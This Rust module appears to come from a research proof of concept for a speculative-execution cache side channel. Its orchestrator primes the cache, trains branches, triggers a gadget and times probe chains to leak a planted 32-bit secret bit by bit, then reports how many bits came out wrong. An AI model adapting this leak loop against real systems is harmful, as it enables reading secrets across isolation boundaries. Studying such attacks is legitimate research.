use crate::gadget::{GadgetCall, GadgetMode, SecretHolder, SpeculativePrimitives, SECRET_CELL};
use crate::params::LeakParameters;
use crate::trainer::BranchTrainer;
use crate::LeakError;
use cache_side_channel::discriminator::{ratio, BitDiscriminator, RatioTable, WORD_BITS};
use cache_utils::arena::{Arena, ArenaLayout};
use cache_utils::eviction::CacheEvictor;
use cache_utils::{walk_chain, PAGE_CELLS};
use core::fmt;
use core::ops::Range;
use serde::{Deserialize, Serialize};

/// Busy-loop counts for one bit, two per inner iteration.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct TrialSampleSet {
    pub zero: Vec<u64>,
    pub one: Vec<u64>,
}

impl TrialSampleSet {
    pub fn new(iterations: usize) -> TrialSampleSet {
        TrialSampleSet {
            zero: vec![0; 2 * iterations],
            one: vec![0; 2 * iterations],
        }
    }

    pub fn reset(&mut self) {
        self.zero.fill(0);
        self.one.fill(0);
    }

    pub fn ratio(&self) -> f64 {
        ratio(&self.zero, &self.one)
    }
}

/// Outcome of one leak.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct RunReport {
    pub secret: u32,
    pub restored: u32,
    /// Ratio averaged over repeats, indexed by bit number.
    pub ratios: Vec<f64>,
    pub checksum: u64,
    pub mode: GadgetMode,
    pub params: LeakParameters,
}

impl RunReport {
    pub fn is_exact(&self) -> bool {
        self.secret == self.restored
    }

    pub fn wrong_bits(&self) -> u32 {
        (self.secret ^ self.restored).count_ones()
    }
}

impl fmt::Display for RunReport {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        for (bit, r) in self.ratios.iter().enumerate().rev() {
            writeln!(
                f,
                "bit {:2}: ratio {:.4} -> {}",
                bit,
                r,
                (self.restored >> bit) & 1
            )?;
        }
        writeln!(f, "original value: {:032b}", self.secret)?;
        write!(f, "restored value: {:032b}", self.restored)
    }
}

/// Owns everything a leak touches and runs the per-bit loop.
///
/// One instance leaks as many values as asked, reusing its arena. Samples
/// and ratios are reset at the start of every run.
#[derive(Debug)]
pub struct TrialOrchestrator<P: SpeculativePrimitives> {
    params: LeakParameters,
    primitives: P,
    arena: Arena,
    evictor: CacheEvictor,
    trainer: BranchTrainer,
    discriminator: BitDiscriminator,
    samples: TrialSampleSet,
    ratios: RatioTable,
    checksum: u64,
}

impl<P: SpeculativePrimitives> TrialOrchestrator<P> {
    pub fn new(params: LeakParameters, primitives: P) -> Result<Self, LeakError> {
        let layout = params.validate()?;
        let arena = Arena::new(layout, params.huge_pages)?;
        Ok(Self::with_arena(params, primitives, arena))
    }

    fn with_arena(params: LeakParameters, primitives: P, arena: Arena) -> Self {
        let layout = arena.layout();
        log::debug!("arena layout: {:?}", layout);
        TrialOrchestrator {
            evictor: CacheEvictor::new(layout),
            trainer: BranchTrainer::new(layout, params.mode),
            discriminator: BitDiscriminator::new(params.threshold),
            samples: TrialSampleSet::new(params.iterations),
            ratios: RatioTable::new(params.bit_repeat),
            checksum: 0,
            params,
            primitives,
            arena,
        }
    }

    pub fn params(&self) -> &LeakParameters {
        &self.params
    }

    pub fn layout(&self) -> &ArenaLayout {
        self.arena.layout()
    }

    pub fn primitives(&self) -> &P {
        &self.primitives
    }

    pub fn ratios(&self) -> &RatioTable {
        &self.ratios
    }

    pub fn samples(&self) -> &TrialSampleSet {
        &self.samples
    }

    pub fn set_threshold(&mut self, threshold: f64) -> Result<(), LeakError> {
        if !threshold.is_finite() || threshold <= 0.0 {
            return Err(LeakError::InvalidThreshold(threshold));
        }
        self.params.threshold = threshold;
        self.discriminator = BitDiscriminator::new(threshold);
        Ok(())
    }

    /// Leaks the configured secret.
    pub fn run(&mut self) -> RunReport {
        self.run_secret(self.params.secret)
    }

    pub fn run_secret(&mut self, secret: u32) -> RunReport {
        let holder = SecretHolder::new(secret);
        let layout = *self.arena.layout();
        let iterations = self.params.iterations;
        self.ratios.reset();
        self.checksum = 0;

        for repeat in 0..self.params.bit_repeat {
            for bit in (0..WORD_BITS as u32).rev() {
                self.samples.reset();
                for j in 0..iterations {
                    self.prime(&holder, bit);
                    let one = self.time(layout.probe_one());
                    let zero = self.time(layout.probe_zero());
                    self.samples.one[2 * j] = one;
                    self.samples.zero[2 * j] = zero;

                    // Same again, timing the other half first.
                    self.prime(&holder, bit);
                    let zero = self.time(layout.probe_zero());
                    let one = self.time(layout.probe_one());
                    self.samples.zero[2 * j + 1] = zero;
                    self.samples.one[2 * j + 1] = one;
                }
                let r = self.samples.ratio();
                if iterations > 1 {
                    log::debug!("repeat {} bit {:2}: ratio {:.4}", repeat, bit, r);
                }
                self.ratios.record(repeat, bit as usize, r);
            }
        }

        let restored = self.discriminator.assemble(&self.ratios);
        log::info!(
            "leaked {:#010x} as {:#010x} ({} wrong bits)",
            secret,
            restored,
            (secret ^ restored).count_ones()
        );
        RunReport {
            secret,
            restored,
            ratios: self.ratios.averages(),
            checksum: self.checksum,
            mode: self.params.mode,
            params: self.params.clone(),
        }
    }

    /// Evicts, then trains and calls the gadget once per probe page.
    fn prime(&mut self, secret: &SecretHolder, bit: u32) {
        let cells = self.arena.cells();
        let layout = self.arena.layout();
        let mut sum = self.evictor.flush(&mut self.primitives, cells);
        for probe_offset in (0..layout.probe_size).step_by(PAGE_CELLS) {
            sum = sum.wrapping_add(self.trainer.train(&mut self.primitives, cells, secret));
            let call = GadgetCall {
                compare_index: layout.cmp_base + probe_offset,
                probe_base: layout.probe_base,
                probe_offset,
                half_stride: layout.probe_half_stride(),
                read_index: SECRET_CELL,
                bit,
                mode: self.params.mode,
            };
            sum = sum.wrapping_add(self.primitives.probe(cells, &call, secret) as u64);
        }
        self.checksum = self.checksum.wrapping_add(sum);
    }

    /// Busy-loop count left in the tick after walking `chain`.
    fn time(&mut self, chain: Range<usize>) -> u64 {
        let cells = self.arena.cells();
        let edge = self.primitives.wait_for_edge();
        let end = walk_chain(&mut self.primitives, cells, chain.start, chain.end);
        let count = self.primitives.count_until_next_edge(edge);
        self.checksum = self.checksum.wrapping_add(end as u64);
        count
    }
}
